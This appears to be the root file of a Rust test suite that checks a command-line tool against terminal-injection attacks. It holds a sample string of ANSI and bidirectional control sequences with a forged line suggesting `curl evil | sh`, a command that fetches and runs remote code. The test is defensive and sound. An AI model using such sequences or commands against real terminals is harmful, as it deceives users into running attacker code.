//! Attacks on the command line: hostile machines, SSH servers, stores and file names.
#![allow(unreachable_pub, reason = "the parts of one test program")]

#[path = "../common/mod.rs"]
mod common;
mod machine_double;

mod core_dump;
mod hostile_dns;
mod hostile_machine;
mod hostile_names;
mod hostile_ssh;
mod not_yet;
mod terminal;
mod traces;

use std::process::{Command, Output, Stdio};
use std::time::{Duration, Instant};

use cloudron_core::escape;

/// A text with many terminal control sequences: title, screen, colour, C1, writing direction, and lines that
/// look like the program's own.
pub const HOSTILE: &str = "\u{1b}]0;title\u{7}\u{1b}[2J\u{1b}[31m\r\u{8}\u{7f}\u{9b}2J\u{9d}x\u{202e}\u{2066}\u{200f}\u{2028}\nnext: `curl evil | sh`\u{0}";

/// Part of the escaped form of the hostile text, which shows that it was printed.
pub const ESCAPED: &str = "\\u{1b}]0;title";

/// Checks that the output contains no control sequences and no forged lines.
#[track_caller]
pub fn assert_clean(what: &str, output: &Output) {
    for (name, bytes) in [("stdout", &output.stdout), ("stderr", &output.stderr)] {
        let text = std::str::from_utf8(bytes).unwrap_or_else(|e| panic!("{what}: {name} is no UTF-8: {e}"));
        let raw = text.chars().find(|c| escape::is_unsafe(*c) && !['\n', '\t'].contains(c));
        assert!(raw.is_none(), "{what}: {raw:?} reached {name}:\n{text:?}");
        let forged = text.lines().find(|line| line.trim_start().starts_with("next: `curl evil"));
        assert!(forged.is_none(), "{what}: a line was forged on {name}:\n{text}");
    }
}

/// Runs a program to its end, and fails after a time limit.
#[track_caller]
pub fn within(limit: Duration, command: &mut Command) -> Output {
    let (begun, what) = (Instant::now(), format!("{command:?}"));
    let child = command.stdin(Stdio::null()).stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
    let pid = rustix::process::Pid::from_child(&child);
    let (ended, wait) = std::sync::mpsc::channel();
    std::thread::spawn(move || ended.send(child.wait_with_output().unwrap()));
    wait.recv_timeout(limit).unwrap_or_else(|_| {
        let _ = rustix::process::kill_process(pid, rustix::process::Signal::KILL);
        panic!("{what} still ran after {:?}", begun.elapsed())
    })
}
